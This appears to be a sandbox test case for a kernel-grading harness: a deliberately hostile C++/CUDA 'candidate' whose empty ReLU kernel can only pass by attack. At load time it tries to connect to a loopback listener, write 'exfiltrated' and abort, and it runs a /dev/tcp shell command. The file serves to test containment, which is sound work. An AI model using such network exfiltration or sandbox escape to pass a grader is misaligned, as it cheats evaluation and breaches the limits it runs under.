// Hack: send data out over the network (the test listens on 127.0.0.1:@PORT@ outside the sandbox) and run a
// shell command. A connection, or a shell that could reach the listener, means abort() (outcome crash).
#include <arpa/inet.h>
#include <cstdlib>
#include <cstring>
#include <netinet/in.h>
#include <sys/socket.h>
#include <unistd.h>
static int probe = [] {
  int s = socket(AF_INET, SOCK_STREAM, 0);
  if (s >= 0) {
    sockaddr_in a;
    memset(&a, 0, sizeof a);
    a.sin_family = AF_INET;
    a.sin_port = htons(@PORT@);
    a.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    if (connect(s, (sockaddr*)&a, sizeof a) == 0) {
      (void)!write(s, "exfiltrated\n", 12);
      abort();
    }
    close(s);
  }
  if (system("exec 3<>/dev/tcp/127.0.0.1/@PORT@ 2>/dev/null") == 0) abort();
  return 0;
}();
// The kernel does no work: only the attack could make this candidate pass (on a GPU it is wrong).
__global__ void relu(const float* x, float* y, int n) {}
void solution(const float* x, float* y, int n) { relu<<<(n + 255) / 256, 256>>>(x, y, n); }
